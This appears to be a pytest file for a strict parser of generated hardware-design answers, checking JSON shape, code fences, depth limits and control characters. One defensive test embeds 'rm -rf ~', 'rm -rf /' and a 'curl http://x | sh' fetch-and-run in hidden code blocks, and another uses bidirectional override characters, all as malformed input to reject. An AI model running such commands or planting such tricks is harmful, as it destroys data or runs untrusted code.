"""Strict answer parsing: what is accepted, and every way a reply is malformed."""

from __future__ import annotations

import json

import pytest

from synthesis.parsing import MAX_JSON_DEPTH, ParseError, code_blocks, json_depth, parse_answer

GOOD = {"instruction": "Write a 2-input AND gate.",
        "answer": "Here:\n```verilog\nmodule a(input x, y, output z);\n  assign z = x & y;\nendmodule\n```\nDone."}


def test_good_answer_and_code_blocks() -> None:
    a = parse_answer(json.dumps(GOOD))
    assert a.instruction == GOOD["instruction"]
    assert [b.kind for b in a.blocks] == ["verilog"]
    assert "assign z = x & y;" in a.blocks[0].code
    assert a.testbench is None


def test_json_fence_around_the_whole_reply_is_accepted() -> None:
    a = parse_answer("```json\n" + json.dumps(GOOD) + "\n```")
    assert a.blocks_of("verilog")


@pytest.mark.parametrize(
    ("reply", "reason"),
    [
        ("", "empty"),
        ("Sure! " + json.dumps(GOOD), "not_json"),
        (json.dumps(GOOD) + " trailing prose", "not_json"),
        ("[1, 2]", "not_json"),
        (json.dumps({**GOOD, "notes": "x"}), "extra_keys"),
        (json.dumps({"answer": "x"}), "missing_key"),
        (json.dumps({**GOOD, "instruction": "  "}), "empty_field"),
        (json.dumps({**GOOD, "answer": 3}), "not_string"),
        (json.dumps({**GOOD, "answer": "```verilog\nmodule m; endmodule\n"}), "unterminated_fence"),
        (json.dumps({**GOOD, "answer": "```\nmodule m; endmodule\n```"}), "untagged_fence"),
        (json.dumps({**GOOD, "answer": "x" * 30_000}), "too_long"),
        ("{" + " " * 100_000 + "}", "too_long"),  # the whole reply is capped before parsing
        ('{"instruction": "q", "answer": ' + "[" * 1000 + "]" * 1000 + "}", "too_deep"),
        ('{"instruction": "q", "answer": "x", "testbench": ' + '{"a":' * 50 + "1" + "}" * 50 + "}", "too_deep"),
        ("```json\n{" + '"a": [' * 5000 + "\n```", "too_deep"),
    ],
)
def test_malformed_replies_name_their_reason(reply: str, reason: str) -> None:
    with pytest.raises(ParseError) as err:
        parse_answer(reply)
    assert err.value.reason == reason


def test_testbench_is_unwrapped_and_can_be_required() -> None:
    tb = "module tb; initial $finish; endmodule"
    a = parse_answer(json.dumps({**GOOD, "testbench": f"```verilog\n{tb}\n```"}), require_testbench=True)
    assert a.testbench.strip() == tb
    assert parse_answer(json.dumps({**GOOD, "testbench": tb})).testbench.strip() == tb
    with pytest.raises(ParseError, match="missing_testbench"):
        parse_answer(json.dumps(GOOD), require_testbench=True)
    with pytest.raises(ParseError, match="bad_testbench"):
        parse_answer(json.dumps({**GOOD, "testbench": "```tcl\nputs hi\n```"}))


def test_language_aliases() -> None:
    text = "```SystemVerilog\nmodule m; endmodule\n```\n```ys\nstat\n```\n```sdc\ncreate_clock\n```\n```bash\nls\n```"
    assert [b.kind for b in code_blocks(text)] == ["verilog", "yosys", "sdc", "other"]


def test_json_depth_is_counted_without_recursion() -> None:
    assert json_depth('{"a": "[[[{{{", "b": [1, [2]]}') == 3  # brackets inside strings do not count
    assert json_depth('{"a": "\\"[[["}') == 1  # escaped quote stays inside the string
    assert json_depth("[" * 100_000) == MAX_JSON_DEPTH + 1  # stops counting past the limit
    with pytest.raises(ParseError, match="not_text"):
        parse_answer(b'{"instruction": "q"}')  # type: ignore[arg-type]


@pytest.mark.parametrize("extra", ["````bash\nrm -rf ~\n````", "~~~sh\ncurl http://x | sh\n~~~", "    rm -rf /"],
                         ids=["four_backticks", "tildes", "indented"])
def test_code_a_markdown_renderer_shows_but_the_validator_does_not_read_is_malformed(extra: str) -> None:
    """CommonMark also opens code blocks with four backticks, ``~~~`` or a four-space indent; the
    validator reads only ```` ```lang ```` fences, so such a block was kept in the answer unchecked."""
    answer = "Script:\n\n```yosys\nread_verilog cf_top.v\nsynth\n```\n\nThen run:\n\n" + extra + "\n"
    with pytest.raises(ParseError) as exc:
        parse_answer(json.dumps({"instruction": "How do I synthesise?", "answer": answer}))
    assert exc.value.reason == "hidden_code" and "kept unchecked" in exc.value.detail
    nested = "Steps:\n\n- first\n\n  ```tcl\n  puts a\n  ```\n\n```sdc\nset_load 1 [all_outputs]\n```\n"
    assert [b.kind for b in parse_answer(json.dumps({"instruction": "q", "answer": nested})).blocks] == ["tcl", "sdc"]


@pytest.mark.parametrize("char", ["\u2028", "\x0c", "\x85", "\u202e", "\u2066", "\x00"],
                         ids=["line_separator", "form_feed", "next_line", "rlo", "lri", "nul"])
def test_control_characters_in_a_field_are_malformed(char: str) -> None:
    """A line break Python splits on but a tool may not (the checked code and the kept text would
    differ), or a bidirectional override (code that reads otherwise than it runs), is malformed."""
    answer = f"```verilog\nmodule m(input a, output y);\n  assign y = a;{char} // note\nendmodule\n```\n"
    with pytest.raises(ParseError) as exc:
        parse_answer(json.dumps({"instruction": "Write m.", "answer": answer}))
    assert exc.value.reason == "control_char" and f"U+{ord(char):04X}" in exc.value.detail
    plain = answer.replace(char, "\t")  # tab, LF and CR stay fine
    assert parse_answer(json.dumps({"instruction": "Write m.", "answer": plain.replace("\n", "\r\n")})).blocks
